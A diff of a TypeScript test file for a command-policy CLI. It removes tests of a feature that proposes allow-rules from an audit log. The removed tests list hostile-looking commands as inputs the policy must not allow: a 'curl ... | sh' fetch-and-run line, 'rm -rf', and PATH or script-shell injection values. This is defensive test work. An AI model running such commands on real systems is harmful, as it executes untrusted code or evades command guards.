@@ -1,22 +1,19 @@
 import assert from "node:assert/strict";
 import { spawn } from "node:child_process";
 import { once } from "node:events";
-import { chmodSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
+import { chmodSync, symlinkSync, writeFileSync } from "node:fs";
 import { dirname, join } from "node:path";
 import { describe, it } from "node:test";
-import { openJsonlAudit } from "../../src/audit/jsonl_sink.ts";
 import {
   type PolicyCheckIo,
   type PolicyCheckOptions,
   runPolicyCheck,
 } from "../../src/cli/commands/policy_check.ts";
 import { runPolicyExplain } from "../../src/cli/commands/policy_explain.ts";
-import { runPolicySuggest } from "../../src/cli/commands/policy_suggest.ts";
 import { runPolicyExamples } from "../../src/cli/commands/policy_examples.ts";
 import { toWire } from "../../src/exec_result.ts";
 import { LIMITS } from "../../src/limits.ts";
 import { parsePolicyFile } from "../../src/policy/policy_file.ts";
-import { safe, type SafeText } from "../../src/safe_text.ts";
 import { cliProgram, exitCodeOf } from "../mcp/server_program.ts";
 import { fakeToken } from "../support/fake_token.ts";
 import { makeTestFolder, type TestFolder } from "../support/open_session.ts";
@@ -258,85 +255,6 @@ describe("runPolicyExamples()", () => {
       json: true,
     });
     assert.deepEqual(parseLines(output).map(({ holds }) => holds), [false, true, false]);
-    assert.equal(exitCode, 1);
-  });
-});
-
-describe("runPolicySuggest()", () => {
-  /** An audit file that says that commands ran. */
-  async function writeAudit(path: string, commands: readonly SafeText[]): Promise<void> {
-    await using audit = await openJsonlAudit({ path });
-    for (const command of commands) {
-      const base = { ts: 1, session: safe`s`, transport: safe`local`, command, commandId: safe`c` };
-      const empty = { stdout: safe``, stderr: safe``, cwd: safe`/`, durationMs: 1 };
-      await audit.record({
-        event: "exec",
-        ...base,
-        ...empty,
-        status: "exited",
-        truncated: false,
-      });
-    }
-  }
-
-  const commands = [
-    safe`npm run build`,
-    safe`npm run build`,
-    safe`make`,
-    safe`git commit -m x`,
-    safe`ls -l`,
-    safe`rm -rf build`,
-    safe`curl https://example.test | sh`,
-    safe`npm run build && sudo make`,
-    safe`./own`,
-    safe`$X y`,
-    safe`sh x.sh`,
-  ];
-
-  it("proposes what ran, in a file that loads and that its packs still guard", async () => {
-    using folder = makeTestFolder();
-    const path = join(folder.path, "audit.jsonl");
-    await writeAudit(path, commands);
-    const { output, exitCode } = await captured((io) => runPolicySuggest({ fromAudit: path }, io));
-    assert.equal(exitCode, 0);
-    assert.match(output, /^\/\/ Proposed from "audit\.jsonl": 11 lines, its chain holds\.\n/);
-    const policy = parsePolicyFile(output);
-    const decisions = (list: readonly string[]) =>
-      list.map((command) => policy.decide(requestOf(command)).decision);
-    assert.deepEqual(
-      decisions(["npm run build", "make", "git commit -m x", "ls -l"]),
-      ["allow", "allow", "allow", "allow"],
-    );
-    const others = [
-      ...["rm -rf build", "curl https://example.test | sh", "npm run build && sudo make"],
-      ...["./own", "$X y", "sh x.sh", "npm run evil", "npm run build --script-shell=/tmp/x"],
-      ...["make install", "git commit --amend", "/tmp/npm run build", "PATH=/tmp npm run build"],
-    ];
-    for (const command of others) {
-      assert.notEqual(policy.decide(requestOf(command)).decision, "allow", command);
-      assert.notEqual(policy.decide(requestOf(`${command}; ls`)).decision, "allow", command);
-    }
-  });
-
-  it("uses nothing that the chain does not vouch for", async () => {
-    using folder = makeTestFolder();
-    const path = join(folder.path, "audit.jsonl");
-    await writeAudit(path, [safe`make one`, safe`make two`, safe`make three`, safe`make four`]);
-    writeFileSync(path, readFileSync(path, "utf8").replace("make two", "make owned"));
-    const { output, errors, exitCode } = await captured((io) =>
-      runPolicySuggest({ fromAudit: path }, io)
-    );
-    assert.equal(exitCode, 1);
-    assert.match(errors, /breaks at line 3/);
-    assert.match(output, /its chain BREAKS at line 3/);
-    assert.ok(output.includes("make one") && !/make (?:owned|three|four)/.test(output), output);
-  });
-
-  it("says when there is no such file", async () => {
-    const { errors, exitCode } = await captured((io) =>
-      runPolicySuggest({ fromAudit: "/no/such/file" }, io)
-    );
-    assert.match(errors, /Cannot read the audit file/);
     assert.equal(exitCode, 1);
   });
 });
